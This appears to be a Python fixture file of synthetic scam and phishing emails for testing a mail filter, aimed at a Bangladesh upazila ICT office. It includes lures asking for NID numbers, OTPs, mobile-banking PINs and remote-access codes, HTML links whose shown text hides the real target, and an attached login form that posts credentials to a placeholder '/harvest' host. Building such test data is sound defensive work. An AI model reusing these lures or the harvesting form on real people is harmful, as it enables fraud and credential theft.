"""scam family: spam / scams / phishing WITHOUT any spam headers."""
from spec import M


def SC(lang, note, frm, subject, body=None, **kw):
    return M("scam", "none", "spam", lang, note, frm=frm, subject=subject, body=body, **kw)


MAILS = [
SC("en", "SEO/web-design pitch naming web portal and e-nothi services",
   "Rahat Digital Solutions|sales@rahat-digital.example", "Upgrade your Upazila web portal & e-Nothi in 7 days",
   """\
Dear Upazila ICT Officer,

We noticed that several union web portals under Melandaha load slowly and rank poorly on search engines. Our team has redesigned 120+ government portals and offers e-Nothi integration, digital lab management software and UDC billing apps.

Special package for upazila offices: 1st page Google ranking + portal redesign + 1 year hosting = only BDT 24,999.

Reply with your WhatsApp number and we will send a free audit report today.

Best regards,
Rahat Hossain
Business Development Manager
"""),
SC("bn", "free internet data offer asking NID number and OTP",
   "সরকারি ডাটা উপহার|offer@free-data-bd.test", "সকল শিক্ষককে ৫০ জিবি ফ্রি ইন্টারনেট",
   """\
প্রিয় শিক্ষক/কর্মকর্তা,
ডিজিটাল বাংলাদেশ কর্মসূচির আওতায় সকল শিক্ষক ও ইউনিয়ন উদ্যোক্তাকে ৫০ জিবি ফ্রি ইন্টারনেট দেওয়া হচ্ছে। আপনার অফিসের সবাইকে জানিয়ে দিন।

ডাটা পেতে আজই আপনার নাম, এনআইডি নম্বর ও মোবাইল নম্বর রিপ্লাই দিন। এরপর মোবাইলে আসা ৬ সংখ্যার কোড (ওটিপি) পাঠালেই ডাটা চালু হবে।

অফার শেষ: ১০ ডিসেম্বর
"""),
SC("banglish", "romanised lottery win asking bKash number and PIN",
   "Lucky Draw Team|winner@lucky-draw.test", "Ovinondon! apni 5 lakh taka jitechen",
   """\
Ovinondon!! Apnar email address amader Digital Lucky Draw 2026 e 1st prize 5,00,000 taka jitese.
taka pete apnar bKash / Nagad number, account er PIN ar NID er chobi reply korun. processing fee 1500 taka matro, ja prize theke kete newa hobe na, agei pathate hobe.
24 ghontar moddhe reply na dile prize batil.
Call/WhatsApp: 01899-000000
"""),
SC("en", "phishing: fake e-Nothi password reset from look-alike domain, link text differs from target",
   "e-Nothi Support|no-reply@e-nothi-gov.test", "e-Nothi: your password expires today",
   None, html="""\
<html><body style="font-family:Arial">
<table width="600" style="border:1px solid #ddd"><tr><td style="background:#006a4e;color:#fff;padding:10px"><b>e-Nothi</b> National e-Filing System</td></tr>
<tr><td style="padding:15px">
<p>Dear User (ict.melandaha@office.test),</p>
<p>Your e-Nothi password will expire in <b>12 hours</b>. After that your nothis and dak will be locked and pending files may be returned.</p>
<p>To keep your account active, verify your password now:</p>
<p><a href="http://e-nothi-gov.test/login/verify?u=ict.melandaha">https://e-nothi.office.test/password-reset</a></p>
<p>Regards,<br>e-Nothi Helpdesk</p>
</td></tr></table>
</body></html>
""", fmt="html", cte="quoted-printable"),
SC("en", "invoice lure with attachment and Reply-To free-mail",
   "Accounts Department|billing@portal-hosting.example", "Outstanding invoice INV-26-3381 for web portal hosting",
   """\
Dear Customer,

Please find attached the outstanding invoice INV-26-3381 for the annual hosting and SSL renewal of your union web portals (11 domains). Payment is overdue by 14 days. To avoid suspension of the portals, settle within 48 hours.

Open the attached invoice for bank and mobile payment details. Reply to our accounts officer for any query.

Accounts Department
""", reply_to="portal.accounts.desk@freemail.test", attach=[("INV-26-3381.zip", "zip")]),
SC("bn", "freelancing course with registration fee, names UDC and lab",
   "ডিজিটাল স্কিল একাডেমি|info@skill-academy.test", "উদ্যোক্তা ও শিক্ষকদের জন্য ফ্রিল্যান্সিং কোর্স — মাসে ৫০ হাজার আয়",
   """\
আসসালামু আলাইকুম,
ইউনিয়ন ডিজিটাল সেন্টারের উদ্যোক্তা, ডিজিটাল ল্যাবের শিক্ষক ও বেকার তরুণদের জন্য সরকারি অনুমোদিত (!) ফ্রিল্যান্সিং কোর্স। ৩ মাসে মাসে ৫০,০০০ টাকা আয়ের গ্যারান্টি।
রেজিস্ট্রেশন ফি মাত্র ২,৫০০ টাকা — নিচের বিকাশ নম্বরে সেন্ড মানি করে ট্রানজেকশন আইডি রিপ্লাই দিন: ০১৯০০-০০০১১১
আসন সীমিত! আজই নিশ্চিত করুন।
"""),
SC("en", "government grant scam asking NID, bank details and fee",
   "ICT Division Grant Cell|grants@ictgrant-office.test", "Approved: ICT development grant for your upazila (Tk 12,00,000)",
   """\
Dear Officer,

We are pleased to inform you that Melandaha Upazila has been selected for an ICT development grant of Tk 12,00,000 under the Smart Union programme. To release the funds, send the following within 3 working days:

1. Scanned NID of the Upazila ICT Officer
2. Bank account number and mobile banking (bKash/Nagad) number
3. Processing fee Tk 7,500 (non-refundable)

Reply only to the grant officer at the address below.

Grant Release Cell
""", reply_to="grant.release.cell@inbox.example"),
SC("banglish", "romanised fake tech-support: 'your portal is hacked' asks AnyDesk code",
   "Cyber Security Team|alert@secure-bd.test", "urgent: apnar website hack hoyeche",
   """\
Dear sir, amader system e dekha jacche apnar office er web portal ar e-nothi server hack hoyeche, data churi hocche. ekhoni amader engineer ke remote access din. AnyDesk install kore 9 digit code ta reply korun, amra free te thik kore dibo. deri korle sob data haray jabe.
Cyber Security Team
"""),
SC("mixed", "mixed: fake digital-lab supplier offering cheap laptops, advance payment",
   "স্মার্ট ল্যাব সাপ্লাই|smartlab@supply-bd.example", "Digital Lab-এর laptop অর্ধেক দামে!",
   """\
সম্মানিত স্যার,
শেখ রাসেল digital lab-এর জন্য original laptop, projector, router এখন অর্ধেক দামে। সকল school ও college-এ সরাসরি delivery। ৩০% advance দিলেই order confirm।
Advance পাঠানোর Nagad merchant: 01600-000222
WhatsApp-এ আপনার school-এর EIIN ও headmaster-এর NID পাঠান।
"""),
SC("en", "visible link text differs: fake national portal login, HTML + text",
   "National Portal Admin|admin@bangladesh-portal.test", "Action required: verify your union portal administrator account",
   """\
Dear Administrator,
Due to a security upgrade, all union portal administrator accounts must be re-verified before 10 December. Unverified accounts will be deleted.
Verify here: https://portal.office.test/admin/verify
Portal Admin Team
""", html="""\
<html><body>
<p>Dear Administrator,</p>
<p>Due to a security upgrade, all union portal administrator accounts must be re-verified before 10 December. Unverified accounts will be deleted.</p>
<p>Verify here: <a href="http://portal-verify.example/wp/collect.php?id=mel">https://portal.office.test/admin/verify</a></p>
<p>Portal Admin Team</p>
</body></html>
""", fmt="alt"),
SC("bn", "bangla: Nagad cashback message asking PIN",
   "নগদ অফার|cashback@mfs-bonus.test", "আপনার নগদ অ্যাকাউন্টে ২০০০ টাকা ক্যাশব্যাক",
   """\
প্রিয় গ্রাহক,
সরকারি ভাতা বিতরণে অংশ নেওয়ায় আপনার অ্যাকাউন্টে ২০০০ টাকা ক্যাশব্যাক অপেক্ষমাণ। টাকা পেতে আপনার মোবাইল ব্যাংকিং নম্বর ও পিন এই মেইলের উত্তরে পাঠান। পিন না পাঠালে ক্যাশব্যাক বাতিল হবে।
"""),
SC("en", "vendor pitch: UDC billing software, 'exclusive for Melandaha'",
   "UDC Pro Software|hello@udcpro.example", "UDC Pro - billing, reports & portal sync for all 11 UDCs",
   """\
Hello ICT Office Melandaha!

UDC Pro is the #1 software for union digital centres: automatic monthly reports, service income tracking, SMS to citizens, and one-click sync with the entrepreneur portal.

Upazila licence for all UDCs: BDT 49,000/year. 40% discount if you order before 15 December.
Book a demo: https://udcpro.example/demo

Unsubscribe: reply STOP
"""),
SC("banglish", "romanised job scam: data entry with registration fee, Reply-To differs",
   "HR Recruitment|hr@career-bd.test", "ghore bose data entry job - daily 1500 taka",
   """\
Assalamu alaikum. amader company te ghore bose mobile diye data entry kaj kore daily 1500-3000 taka income korun. kono experience lagbe na. registration fee matro 990 taka. bKash korun 01700-000333 (personal) ebong screenshot ar apnar NID er chobi reply korun.
""", reply_to="job.hr.desk@freemail.test"),
SC("en", "fake domain expiry notice for union portals with payment link",
   "Domain Renewal Service|renew@domain-notice.test", "FINAL NOTICE: melandaha.office.test domain expiration",
   None, html="""\
<html><body>
<h3 style="color:#c00">FINAL NOTICE</h3>
<p>The domain registration for <b>melandaha.office.test</b> and 11 union sub-domains will expire on 12/12/2026. After expiry, your web portal, e-mail and e-Nothi links will stop working.</p>
<p><a href="http://domain-notice.test/pay?d=melandaha">Click here to renew securely</a> (BDT 18,400)</p>
<p>This is a courtesy notice. We are not your current registrar. Renewal is not mandatory.</p>
</body></html>
"""),
SC("bn", "fake 'free laptop for teachers' registration asking NID and fee",
   "শিক্ষক ল্যাপটপ কর্মসূচি|laptop@shikkhok-prokolpo.test", "সকল শিক্ষকের জন্য বিনামূল্যে ল্যাপটপ — নিবন্ধন চলছে",
   """\
শ্রদ্ধেয় প্রধান শিক্ষক,
ডিজিটাল ল্যাব কর্মসূচির দ্বিতীয় পর্যায়ে প্রত্যেক শিক্ষক একটি করে ল্যাপটপ পাবেন। নিবন্ধনের জন্য প্রত্যেক শিক্ষকের এনআইডির ছবি, মোবাইল নম্বর ও নিবন্ধন ফি ৩০০ টাকা বিকাশে পাঠাতে হবে। বিদ্যালয়ের EIIN উল্লেখ করুন।
নিবন্ধনের লিংক: http://shikkhok-prokolpo.test/register
"""),
SC("en", "CEO-fraud opener impersonating UNO from look-alike domain, free-mail Reply-To",
   "UNO Melandaha|uno.melandaha@admin-offices.test", "Quick task",
   """\
Are you at your desk? I need you to handle a quick task for me discreetly. I am in a meeting with the DC and can't talk. Reply to this email as soon as you get it.

Sent from my phone
""", reply_to="uno.melandaha.office@freemail.test"),
SC("mixed", "mixed: fake e-Nothi upgrade, attachment HTML form",
   "e-Nothi আপগ্রেড সেল|upgrade@e-nothi-gov.test", "e-Nothi নতুন version - সকল user-কে update করতে হবে",
   """\
সম্মানিত user,
e-Nothi-এর নতুন version চালু হয়েছে। পুরনো version-এর সকল account ১৫ ডিসেম্বর থেকে বন্ধ হবে। সংযুক্ত form-টি browser-এ খুলে আপনার user ID ও password দিয়ে update করুন।
e-Nothi আপগ্রেড সেল
""", attach=[("eNothi_update_form.html", "html", "plain",
                '<html><body><form action="http://e-nothi-gov.test/harvest" method="post">User ID <input name="u"> Password <input name="p" type="password"><input type="submit"></form></body></html>')]),
SC("en", "bulk 'business proposal' advance-fee style mentioning ICT projects",
   "Mr. Daniel Whitmore|d.whitmore@consult-intl.example", "Partnership for digital centres project (confidential)",
   """\
Dear Sir,

I represent an international foundation with USD 2.4 million allocated for rural digital centres and school computer labs in Bangladesh. We need a trusted local officer to receive and distribute the funds. You will receive 15% for your assistance.

Kindly reply with your full name, direct phone number and a copy of your identity card so that our lawyer can prepare the documents.

Yours faithfully,
Daniel Whitmore
"""),
SC("banglish", "romanised: 'free bandwidth for UDC' asking entrepreneur ID and password",
   "UDC Support|support@udc-helpdesk.test", "UDC udyokta der jonno free 20 Mbps",
   """\
priyo udyokta, sokol UDC te free 20 Mbps internet deya hobe. activate korte apnar udyokta portal er user ID, password ebong mobile e asha OTP ei mail e reply korun. 48 ghonta por offer shesh.
UDC Support
"""),
SC("en", "printer toner vendor spam with link text mismatch",
   "Toner World BD|deals@tonerworld.example", "Toner 70% OFF for government offices - today only",
   None, html="""\
<html><body>
<p>Dear Procurement Officer,</p>
<p>Original HP/Canon toner for government offices and UDCs at 70% OFF. Free delivery to Melandaha.</p>
<p><a href="http://tonerworld.example/track?c=ict-mel&amp;r=9912">www.office.test/procurement/approved-vendors</a></p>
<p>Call: 01300-000444</p>
</body></html>
"""),
SC("bn", "bangla: fake 'cyber tribunal notice' threatening case unless fine paid",
   "সাইবার নিরাপত্তা সেল|notice@cyber-cell.test", "আপনার বিরুদ্ধে সাইবার অপরাধের অভিযোগ",
   """\
সতর্কবার্তা,
আপনার অফিসের আইপি ঠিকানা থেকে অবৈধ কনটেন্ট ছড়ানোর প্রমাণ পাওয়া গেছে। মামলা এড়াতে ২৪ ঘণ্টার মধ্যে ১৫,০০০ টাকা জরিমানা নিচের নম্বরে বিকাশ করুন এবং দায়িত্বপ্রাপ্ত কর্মকর্তার এনআইডি পাঠান। অন্যথায় আইনগত ব্যবস্থা নেওয়া হবে।
বিকাশ: ০১৮০০-০০০৫৫৫
""", reply_to="cyber.cell.help@inbox.example"),
SC("en", "fake shared-document notification with mismatched link",
   "Document Share|share@docs-share.test", "Melandaha_UNO_Office shared 'Lab_allocation_2027.xlsx' with you",
   """\
You have received a shared document.

Lab_allocation_2027.xlsx
Shared by: UNO Office Melandaha

Open document: https://docs.office.test/d/lab-allocation-2027
(You may need to sign in with your email password to view.)
""", html="""\
<html><body>
<p>You have received a shared document.</p>
<p><b>Lab_allocation_2027.xlsx</b><br>Shared by: UNO Office Melandaha</p>
<p><a href="http://docs-share.test/signin?next=lab">Open document: https://docs.office.test/d/lab-allocation-2027</a></p>
<p style="color:#888">You may need to sign in with your email password to view.</p>
</body></html>
""", fmt="alt"),
]
